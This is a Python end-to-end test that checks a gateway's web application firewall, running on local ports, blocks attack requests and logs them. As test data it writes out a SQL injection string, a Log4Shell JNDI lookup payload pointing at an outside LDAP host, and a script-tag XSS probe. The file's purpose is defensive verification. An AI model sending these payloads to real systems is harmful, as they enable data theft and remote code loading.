"""examples/waf: a WAF at the central ingress, run as written on loopback ports: attacks on
the blocking rule never reach the service (no upstream in the access log), ordinary requests
do, the detect-mode rule passes and logs, the platform team's own rule applies."""

from __future__ import annotations

import json
from pathlib import Path

from tests.support.e2e import (
    Procs,
    curl,
    load_example,
    readdress,
    run_gateway,
    wait_port,
    write_docs,
)
from tests.support.net import free_port, poll_until

HOST = [("Host", "shop.example.com")]


def test_waf_example(procs: Procs, tmp_path: Path) -> None:
    shop, listen, admin = free_port(), free_port(), free_port()
    procs.python("shop", "propylon.demo.echo_server", "--host", "127.0.0.1",
                 "--port", str(shop), "--name", "shop")
    docs = readdress(load_example("waf"), listeners={"edge/web": ("127.0.0.1", listen)},
                     endpoints={"shop": ("127.0.0.1", shop)})
    config = write_docs(tmp_path / "config" / "gateway.yaml", docs)
    wait_port("127.0.0.1", shop)
    access_log = tmp_path / "access.log"
    run_gateway(procs, "gateway", config, admin, access_log=access_log)
    base = f"http://127.0.0.1:{listen}"

    ok = curl(base + "/api/items?page=2", headers=HOST)
    assert ok.status == 200 and ok.json()["url"] == "/api/items?page=2"
    attacks = [
        (base + "/api/items?id=1%20UNION%20SELECT%20password%20FROM%20users", HOST),
        (base + "/api/", [*HOST, ("User-Agent", "${jndi:ldap://203.0.113.9/a}")]),
        (base + "/api/", [*HOST, ("X-Internal-Token", "secret")]),  # the platform's rule
    ]
    for url, headers in attacks:
        reply = curl(url, headers=headers)
        assert reply.status == 403 and reply.body == b"forbidden\n", url
    detected = curl(base + "/legacy/search?q=%3Cscript%3Ealert(1)%3C/script%3E", headers=HOST)
    assert detected.status == 200
    assert curl(base + "/legacy/t?x=%24%7BorderId%7D", headers=HOST).status == 200

    records = [json.loads(line[line.index("{"):]) for line in procs.log("gateway").splitlines()
               if '{"event":"waf"' in line]
    assert [r["action"] for r in records] == ["blocked"] * 3 + ["detected"]
    assert records[2]["rules"][0]["id"] == "1000001"
    log = poll_until(lambda: (lines := access_log.read_text().splitlines()) and len(lines) >= 6
                     and [json.loads(line) for line in lines], 5.0, message="6 access log lines")
    blocked = [entry for entry in log if entry["status"] == 403]
    assert len(blocked) == 3 and all(entry["upstream"] is None for entry in blocked)
    assert all(entry["upstream"] for entry in log if entry["status"] == 200)
